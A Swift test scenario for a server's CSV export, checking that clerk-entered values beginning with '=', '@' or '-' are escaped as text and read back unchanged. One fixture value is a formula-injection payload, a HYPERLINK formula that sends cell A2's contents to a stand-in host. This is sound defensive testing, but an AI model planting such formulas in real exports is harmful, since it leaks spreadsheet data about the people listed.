import FicheTestSupport
import FicheDomain
import FicheServer
import FicheSyncProtocol
import Foundation
import XCTest

/// What `fiche-server export` writes opens safely in a spreadsheet and reads back the same:
/// scenarios run by `SQLiteServerTests` and `PostgresServerTests` on each store.
enum SpreadsheetScenarios {
    static let formula = "=HYPERLINK(\"http://x?\"&A2,\"De Coster\")"

    /// A clerk's last name that is a formula is exported as text (a leading quote), numbers as
    /// numbers, and importing the export changes nothing.
    static func formulasAreExportedAsTextAndReadBack(_ backend: TestStore) async throws {
        let fixture = try await ServerFixture.make(backend)
        let dossier = try await fixture.dossierID("S002")
        try await fixture.test { api in
            let token = try await api.login("clerk.cpas").accessToken
            let (_, push) = try await api.push(token, [
                .field(1, dossier: dossier, .lastName, old: "Van den Bossche", new: formula),
                .field(2, dossier: dossier, .firstName, old: "Bram", new: "@Bram"),
                .field(3, dossier: dossier, .grade, old: "C2", new: "-C2"),
            ])
            XCTAssertEqual(push?.results.map(\.status), [.applied, .applied, .applied])
        }
        let lines = LinesBox()
        try await CSVExport(store: fixture.store).dossiers(employer: ServerFixture.cpas) { lines.append($0) }
        let row = try XCTUnwrap(lines.all.first { $0.hasPrefix("S002,") })
        XCTAssertEqual(row, "S002,17.07.30-033.84,\"'=HYPERLINK(\"\"http://x?\"\"&A2,\"\"De Coster\"\")\",'@Bram,2017-07-30,"
                       + "male,nl,contractual,'-C2,50,2022-09-01,,")
        let before = try await fixture.dossierColumns(dossier, ["last_name", "first_name", "grade", "version"])
        XCTAssertEqual(before[0...2], [formula, "@Bram", "-C2"])
        let summary = try await DossierImport(store: fixture.store, configuration: fixture.configuration)
            .run(csv: lines.all.joined(separator: "\n"), employer: ServerFixture.cpas)
        XCTAssertEqual(summary.updated, 0, "the export read back is what is stored")
        let after = try await fixture.dossierColumns(dossier, ["last_name", "first_name", "grade", "version"])
        XCTAssertEqual(after, before)
        await fixture.store.close()
    }
}
